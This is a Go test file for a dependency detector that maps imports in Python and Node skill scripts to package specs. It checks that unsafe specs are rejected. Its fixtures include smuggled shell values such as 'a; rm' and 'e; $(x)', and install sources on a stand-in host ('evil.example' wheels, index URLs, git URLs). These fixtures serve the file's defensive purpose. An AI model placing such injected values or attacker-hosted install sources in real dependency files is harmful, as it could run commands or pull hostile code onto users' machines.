package imports_test

import (
	"encoding/json"
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/skillsd/skillsd/sandbox/environment/making"
	"github.com/skillsd/skillsd/skills/script/imports"
)

// ask lets the machine's Python look at a script, outside of a sandbox: the sources are data to it.
func ask(t *testing.T, files map[string]string) []string {
	t.Helper()
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("no python3 here")
	}
	sources := map[string][]byte{}
	for name, text := range files {
		sources[name] = []byte(text)
	}
	argv, stdin, err := imports.Python(python, []string{"scripts/x.py"}, sources)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin = strings.NewReader(string(stdin))
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	answers, err := imports.ParsePython(out, 1)
	if err != nil {
		t.Fatal(err)
	}
	return words(&answers[0])
}

func words(imported *imports.Imported) (found []string) {
	for _, m := range imported.Modules {
		if !m.There {
			found = append(found, m.Name+" "+string(m.Kind))
		}
	}
	found = append(found, imported.Files...)
	for _, name := range imported.Unread {
		found = append(found, "? "+name)
	}
	return found
}

func TestPython(t *testing.T) {
	tests := map[string]struct {
		files map[string]string // script is scripts/x.py
		want  []string
	}{
		"top":       {files: map[string]string{"": "import os, zq_a.b\nfrom zq_c.d import e\n"}, want: []string{"zq_a hard", "zq_c hard"}},
		"types":     {files: map[string]string{"": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n import zq_a\n"}},
		"function":  {files: map[string]string{"": "def f():\n import zq_a\n"}, want: []string{"zq_a lazy"}},
		"leaves":    {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n raise SystemExit(1)\n"}, want: []string{"zq_a required"}},
		"guarded":   {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n zq_a = None\n"}, want: []string{"zq_a guarded"}},
		"other":     {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n import zq_b\n"}, want: []string{"zq_a guarded", "zq_b hard"}},
		"fallback":  {files: map[string]string{"": "try:\n import json\nexcept ImportError:\n import zq_b\n"}},
		"finally":   {files: map[string]string{"": "try:\n import zq_a\nfinally:\n pass\n"}, want: []string{"zq_a hard"}},
		"version":   {files: map[string]string{"": "import sys\nif sys.version_info < (3, 4):\n import zq_a\n"}},
		"branch":    {files: map[string]string{"": "import sys\nif sys.argv[1:]:\n import zq_a\n"}, want: []string{"zq_a lazy"}},
		"main":      {files: map[string]string{"": "if __name__ == '__main__':\n import zq_a\n"}, want: []string{"zq_a hard"}},
		"sibling":   {files: map[string]string{"": "import near\n", "scripts/near.py": "import zq_a\n"}, want: []string{"zq_a hard", "scripts/near.py"}},
		"its main":  {files: map[string]string{"": "import near\n", "scripts/near.py": "if __name__ == '__main__':\n import zq_a\n"}, want: []string{"scripts/near.py"}},
		"package":   {files: map[string]string{"": "from p import q\n", "scripts/p/__init__.py": "", "scripts/p/q.py": "from . import r\n", "scripts/p/r.py": "import zq_a\n"}, want: []string{"zq_a hard", "scripts/p/__init__.py", "scripts/p/q.py", "scripts/p/r.py"}},
		"namespace": {files: map[string]string{"": "import p.q\n", "scripts/p/q.py": "import zq_a\n"}, want: []string{"zq_a hard", "scripts/p/q.py"}},
		"elsewhere": {files: map[string]string{"": "import sys\nsys.path.insert(0, '..')\nimport far\n", "lib/far.py": "import zq_a\n"}, want: []string{"zq_a hard", "lib/far.py"}},
		"above":     {files: map[string]string{"": "import top\nfrom scripts.lib import y\n", "top.py": "import zq_a\n", "scripts/lib.py": "import zq_b\n"}, want: []string{"zq_a hard", "zq_b hard", "scripts/lib.py", "top.py"}},
		"not found": {files: map[string]string{"": "import far\n", "lib/far.py": ""}, want: []string{"far hard"}},
		"not run":   {files: map[string]string{"": "print('[[]]')\nraise SystemExit(9)\n"}},
		"match": {files: map[string]string{"": "import sys\nmatch sys.argv:\n case []:\n  import near\n", "scripts/near.py": ""},
			want: []string{"scripts/near.py"}},
		"own word for types": {files: map[string]string{"": "TYPE_CHECKING = True\nif TYPE_CHECKING:\n from near import x\n", "scripts/near.py": ""},
			want: []string{"scripts/near.py"}},
		"too deep": {files: map[string]string{"": "import near\n", "scripts/near.py": "x = " + strings.Repeat("-", 5000) + "1\n"},
			want: []string{"scripts/near.py", "? scripts/near.py"}},
		"hidden by own": {files: map[string]string{"": "import argparse\n", "scripts/gettext.py": ""}, want: []string{"scripts/gettext.py"}},
		"two portions":  {files: map[string]string{"": "import ns.deep\n", "scripts/ns/a.py": "", "ns/deep.py": ""}, want: []string{"ns/deep.py"}},
		"decoy": {files: map[string]string{"": "import sys\nsys.path.insert(0, 'vend')\nimport util\n", "scripts/util.py": "", "vend/util.py": ""},
			want: []string{"scripts/util.py", "vend/util.py"}},
		"no Python": {want: []string{"? scripts/x.py"},
			files: map[string]string{"": "import zq_a\n(\n"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			tt.files["scripts/x.py"] = tt.files[""]
			delete(tt.files, "")
			if got := ask(t, tt.files); !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestParsePythonRefuses(t *testing.T) {
	for _, out := range []string{"", "[]", `[{"modules":[{"name":"a","kind":"sure"}]}]`} {
		if _, err := imports.ParsePython([]byte(out), 1); err == nil {
			t.Errorf("%s is accepted", out)
		}
	}
	got, err := imports.ParsePython([]byte(`[{"modules":[{"name":"a; rm","kind":"hard"},
		{"name":"b","kind":"hard","libraries":["libx.so.1","../libx.so","lib x.so","libx.so.1; rm"]}]}]`), 1)
	if err != nil {
		t.Fatal(err)
	}
	modules := got[0].Modules
	if len(modules) != 1 || modules[0].Name != "b" || !slices.Equal(modules[0].Libraries, []string{"libx.so.1"}) {
		t.Errorf("got %v", modules)
	}
}

func TestNode(t *testing.T) {
	tests := map[string]struct {
		files map[string]string
		want  []string
	}{
		"import":   {files: map[string]string{"": "import a from 'zq-a';\nimport 'zq-b/c';\nexport * from \"@zq/d/e\";"}, want: []string{"zq-a hard", "zq-b hard", "@zq/d hard"}},
		"lines":    {files: map[string]string{"": "import {\n a,\n b,\n} from 'zq-a';"}, want: []string{"zq-a hard"}},
		"require":  {files: map[string]string{"": "const a = require('zq-a');\nfunction f() { require('zq-b') }"}, want: []string{"zq-a hard", "zq-b lazy"}},
		"dynamic":  {files: map[string]string{"": "const a = await import('zq-a');\nimport('zq-b');"}, want: []string{"zq-a hard", "zq-b lazy"}},
		"own":      {files: map[string]string{"": "import fs from 'node:fs'; import p from 'path'; import q from 'fs/promises';"}},
		"comments": {files: map[string]string{"": "// import a from 'zq-a'\n/* require('zq-b') */\nconst s = \"require('zq-c')\" + `require('zq-d')`;"}},
		"types":    {files: map[string]string{"": "import type { A } from 'zq-a';"}},
		"relative": {files: map[string]string{"": "import './m.mjs'; const n = require('../lib/n');", "scripts/m.mjs": "import a from 'zq-a';", "lib/n.js": "require('zq-b');"}, want: []string{"zq-a hard", "zq-b hard", "lib/n.js", "scripts/m.mjs"}},
		"hidden":   {files: map[string]string{"": "const x = () => /`/;\nrequire('./e.js');\nconst y = () => /`/; `${require('./f')}`", "scripts/e.js": "", "scripts/f.js": ""}, want: []string{"scripts/e.js", "scripts/f.js"}},
		"there":    {files: map[string]string{"": "import a from 'have';"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			sources := map[string][]byte{}
			for path, text := range tt.files {
				if path == "" {
					path = "scripts/x.mjs"
				}
				sources[path] = []byte(text)
			}
			imported := imports.Node("scripts/x.mjs", sources, func(name string) bool { return name == "have" })
			got := words(&imported)
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

const script = `# /// script
# requires-python = ">=3.11"
# dependencies = [
#   "zq-block >= 2 ; python_version > '3'",
#   "evil @ https://evil.example/x.whl",
#   "--index-url=http://evil.example",
# ]
# ///
"""pip install zq-text"""
`

func TestNeeds(t *testing.T) {
	texts := &imports.Texts{Script: []byte(script), Skill: []byte("Run `pip install zq_skill docx git+https://evil.example/x`, " +
		"`pip install --index-url https://corp.example zq_corp`, `npm install --registry=https://corp.example zq-c`."),
		Files: map[string][]byte{
			"requirements.txt":   []byte("zq.req[x]>=1,<2 # why\n-r other.txt\npyyaml==6.0\n"),
			"a/requirements.txt": []byte("--extra-index-url https://corp.example\nzq-inner\n"),
			"pyproject.toml":     []byte("[project]\ndependencies = ['zq-project~=1.0']\n"),
			"package.json":       []byte(`{"dependencies":{"zq-n":"^1.2.0","zq-u":"git+https://evil.example"}}`),
		}}
	tests := []struct {
		module, spec string
		source       imports.Source
		node         bool
	}{
		{module: "zq_block", spec: "zq-block>=2", source: imports.FromBlock},
		{module: "zq_req", spec: "zq.req[x]>=1,<2", source: imports.FromRequirements},
		{module: "zq_project", spec: "zq-project~=1.0", source: imports.FromRequirements},
		{module: "yaml", spec: "pyyaml==6.0", source: imports.FromRequirements},
		{module: "zq_skill", spec: "zq_skill", source: imports.FromSkill},
		{module: "zq_text", spec: "zq-text", source: imports.FromScript},
		{module: "PIL", spec: "Pillow", source: imports.FromTable},
		// The skill asks for the other package, which is called like the module.
		{module: "docx", spec: "python-docx", source: imports.FromTable},
		{module: "idea"},
		{module: "evil"},
		// They are packages of another index.
		{module: "zq_corp"},
		{module: "zq_inner"},
		{module: "zq-c", node: true},
		{module: "zq-n", spec: "zq-n@^1.2.0", source: imports.FromRequirements, node: true},
		{module: "zq-u", node: true},
		{module: "docx", spec: "docx", source: imports.FromTable, node: true},
	}
	for _, tt := range tests {
		need := imports.Needs([]imports.Module{{Name: tt.module, Kind: imports.Hard}}, texts, tt.node)[0]
		if need.Spec != tt.spec || need.Source != tt.source {
			t.Errorf("%s: got %q by %q, want %q by %q", tt.module, need.Spec, need.Source, tt.spec, tt.source)
		}
	}
	own, err := imports.Block(texts.Script)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := own.Specs(); !slices.Equal(got, []string{"zq-block>=2 ; python_version > '3'"}) {
		t.Errorf("the block asks for %q", got)
	}
	if _, err := imports.Block([]byte(script + "\nx = 1\n" + script)); err == nil {
		t.Error("two blocks are accepted")
	}
}

func TestMetadata(t *testing.T) {
	m := &imports.Metadata{Dependencies: []string{"a", "b[x] >= 1, <2 ; sys_platform == 'linux'", "c @ https://x.example/c.whl",
		"-r x", "d;python_version>'3'", "e; $(x)", ""}}
	specs, others := m.Specs()
	if want := []string{"a", "b[x]>=1,<2 ; sys_platform == 'linux'", "d;python_version>'3'"}; !slices.Equal(specs, want) {
		t.Errorf("specs = %q, want %q", specs, want)
	}
	if want := []string{"c @ https://x.example/c.whl", "-r x", "e; $(x)", ""}; !slices.Equal(others, want) {
		t.Errorf("others = %q, want %q", others, want)
	}
	for _, tt := range []struct {
		python, version string
		want            bool
	}{
		{"", "3.11.7", true}, {">=3.11", "3.11.7", true}, {">=3.12", "3.11.7", false}, {">=3.9,<3.11", "3.11.0", false},
		{"<4", "3.11.7", true}, {"==3.11.*", "3.11.7", true}, {"==3.11", "3.11.7", false}, {"==3.11", "3.11.0", true},
		{"!=3.11.*", "3.11.7", false}, {"!= 3.11.7", "3.11.7", false}, {"~=3.10", "3.11.7", true}, {"~=3.10.1", "3.11.7", false},
		{">3.11.7", "3.11.7", false}, {"<=3.11", "3.11.7", false}, {"~=3", "3.11.7", true}, {">=3.9", "3.10.0", true},
		{"~=99999999999999999999", "3.11.7", true}, {"of your choice", "3.11.7", true}, {">=3.12", "", true},
	} {
		if got := (&imports.Metadata{Python: tt.python}).Accepts(tt.version); got != tt.want {
			t.Errorf("%q accepts %q: %v, want %v", tt.python, tt.version, got, tt.want)
		}
	}
}

// A skill that names many packages costs no more for a script with many modules.
func TestManyPackages(t *testing.T) {
	const packages, imported = 2_000, 200
	var file strings.Builder
	for i := range packages {
		fmt.Fprintf(&file, "p%d\nP_%d==%d\n", i, i, i)
	}
	texts := &imports.Texts{Files: map[string][]byte{"requirements.txt": []byte(file.String())}}
	modules := make([]imports.Module, imported)
	for i := range modules {
		modules[i].Name = fmt.Sprintf("p.%d", i)
	}
	var needs []imports.Need
	if n := testing.AllocsPerRun(1, func() { needs = imports.Needs(modules, texts, false) }); n > 50*packages {
		t.Errorf("%.0f allocations", n)
	}
	for i, need := range needs {
		if want := fmt.Sprintf("P_%d==%d", i, i); need.Spec != want {
			t.Errorf("module %s needs %q, want %q", need.Name, need.Spec, want)
		}
	}
}

// FuzzBlock reads blocks of metadata: what is taken from them is what the form of requirements allows.
func FuzzBlock(f *testing.F) {
	f.Add("# /// script\n# requires-python = \">=3.11\"\n# dependencies = [\"a>=1; python_version > '3'\"]\n# ///\n", "3.11.7")
	f.Fuzz(func(t *testing.T, script, version string) {
		own, err := imports.Block([]byte(script))
		if err != nil {
			return
		}
		own.Accepts(version)
		specs, _ := own.Specs()
		for _, spec := range specs {
			if err := making.CheckAsked([]string{spec}, nil); err != nil && len(spec) <= 300 {
				t.Errorf("offered %q: %v", spec, err)
			}
		}
	})
}

// FuzzTexts holds what is offered to the form of names: nothing that a package manager takes for something else.
func FuzzTexts(f *testing.F) {
	f.Add(script, "pip install x==1", "import a from 'b'", "y")
	f.Fuzz(func(t *testing.T, script, skill, node, module string) {
		texts := &imports.Texts{Script: []byte(script), Skill: []byte(skill),
			Files: map[string][]byte{"requirements.txt": []byte(skill), "package.json": []byte(node)}}
		found := imports.Node("x.js", map[string][]byte{"x.js": []byte(node)}, func(string) bool { return false })
		needs := imports.Needs(append(found.Modules, imports.Module{Name: module}), texts, true)
		needs = append(needs, imports.Needs([]imports.Module{{Name: module}}, texts, false)...)
		for _, need := range needs {
			if strings.ContainsAny(need.Spec, " \n:'\"$`\\#&|()/") && !strings.HasPrefix(need.Spec, "@") ||
				strings.HasPrefix(need.Spec, "-") {
				data, _ := json.Marshal(need)
				t.Errorf("offered: %s", data)
			}
		}
	})
}
